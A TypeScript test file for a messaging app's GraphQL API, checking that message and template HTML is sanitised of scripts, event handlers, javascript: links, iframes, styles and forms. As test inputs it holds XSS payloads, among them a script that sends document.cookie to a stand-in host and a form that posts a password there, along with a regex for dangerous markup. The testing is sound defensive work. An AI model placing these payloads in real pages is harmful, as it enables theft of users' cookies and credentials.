/**
 * HTML is sanitised before it is ever rendered or sent (issue 7 §6):
 * - `postMessage` with a hostile `contentHtml` stores and returns it without
 *   scripts, event handlers, javascript: links, iframes or styles, keeping the
 *   harmless markup (the same allow-list as inbound e-mail, shared/html.ts);
 *   HTML that sanitises to nothing is stored as null;
 * - `renderTemplate`'s `html`: a template whose markup and triple-stash
 *   ({{{customer.name}}}) output carry a script, an onerror handler and a
 *   javascript: link renders without them, the text kept.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createChannel, createOrganization, createTestApp, createTestServer, createUser, tokenFor, type TestApp, type TestServer } from '../harness.js';
import { gid } from './helpers.js';

let app: TestApp;
let server: TestServer;
let token: string;
let threadId: string;

const HOSTILE_NAME = 'Eve <img src=x onerror="alert(document.cookie)"><script>steal()</script>';
const DANGER = /<script|onerror|onclick|javascript:|<iframe|<style|<form|srcdoc/i;

beforeAll(async () => {
  app = await createTestApp();
  server = await createTestServer(app.deps);
  const org = await createOrganization(app.deps);
  token = await tokenFor(app.deps, await createUser(app.deps, org.id, { role: 'ADMIN' }));
  const channel = await createChannel(app.deps, org.id, { type: 'EMAIL_OUTLOOK' });
  const customer = await app.deps.db.prisma.customer.create({ data: { organizationId: org.id, name: HOSTILE_NAME, email: 'eve@example.test' } });
  const res = await server.gql(
    `mutation($i: CreateThreadInput!){ createThread(input:$i){ thread { id } errors { code message } } }`,
    { i: { channelId: gid('Channel', channel.id), customerId: gid('Customer', customer.id), subject: 'Sanitising' } },
    token,
  );
  expect(res.data.createThread.errors).toEqual([]);
  threadId = res.data.createThread.thread.id;
});
afterAll(async () => {
  await server?.close();
  await app?.close();
});

const POST = `mutation($i: PostMessageInput!){ postMessage(input:$i){ message { id contentHtml } errors { code message } } }`;

describe('postMessage contentHtml', () => {
  it('drops scripts, handlers, javascript: links, iframes and styles; keeps the markup; stores what it returns', async () => {
    const html =
      '<p onclick="steal()">Beste Eve,</p><script>fetch("https://evil.test/?c="+document.cookie)</script>' +
      '<p><b>de offerte</b> <a href="javascript:alert(1)">klik</a> <a href="https://chargecars.nl/offerte">offerte</a></p>' +
      '<iframe src="https://evil.test"></iframe><style>body{display:none}</style><img src="https://cdn.test/logo.png" onerror="alert(2)">' +
      '<form action="https://evil.test"><input name="password"></form>';
    const res = await server.gql(POST, { i: { threadId, kind: 'NOTE', content: 'Beste Eve, de offerte', contentHtml: html } }, token);
    expect(res.errors).toBeUndefined();
    expect(res.data.postMessage.errors).toEqual([]);
    const out: string = res.data.postMessage.message.contentHtml;
    expect(out).not.toMatch(DANGER);
    expect(out).not.toContain('evil.test');
    expect(out).toContain('<p>Beste Eve,</p>');
    expect(out).toContain('<b>de offerte</b>');
    expect(out).toContain('href="https://chargecars.nl/offerte"');
    expect(out).toContain('src="https://cdn.test/logo.png"');
    const stored = await app.deps.db.prisma.message.findFirstOrThrow({ where: { content: 'Beste Eve, de offerte' } });
    expect(stored.contentHtml).toBe(out);
  });

  it('HTML that is nothing but danger is stored as null', async () => {
    const res = await server.gql(POST, { i: { threadId, kind: 'NOTE', content: 'alleen script', contentHtml: '<script>alert(1)</script>' } }, token);
    expect(res.data.postMessage.message.contentHtml).toBeNull();
  });
});

describe('renderTemplate html', () => {
  it('sanitises the rendered HTML, triple-stash output included', async () => {
    const created = await server.gql(
      `mutation($i: CreateTemplateInput!){ createTemplate(input:$i){ template { id } errors { code message } } }`,
      {
        i: {
          name: 'Hostile HTML',
          category: 'CUSTOMER_SERVICE',
          bodyTemplate: 'Beste {{customer.name}}',
          htmlTemplate: '<p>Beste {{{customer.name}}}</p><script>steal()</script><a href="javascript:alert(1)">hier</a><p onmouseover="x()">Groet</p>',
        },
      },
      token,
    );
    expect(created.data.createTemplate.errors).toEqual([]);
    const r = await server.gql(
      `query($t: ID!, $th: ID!){ renderTemplate(templateId: $t, threadId: $th){ body html } }`,
      { t: created.data.createTemplate.template.id, th: threadId },
      token,
    );
    expect(r.errors).toBeUndefined();
    const html: string = r.data.renderTemplate.html;
    expect(html).not.toMatch(DANGER);
    expect(html).not.toContain('onmouseover');
    expect(html).toMatch(/^<p>Beste Eve <img src="x" \/>/);
    expect(html).toContain('<p>Groet</p>');
    expect(html).toContain('hier');
  });
});
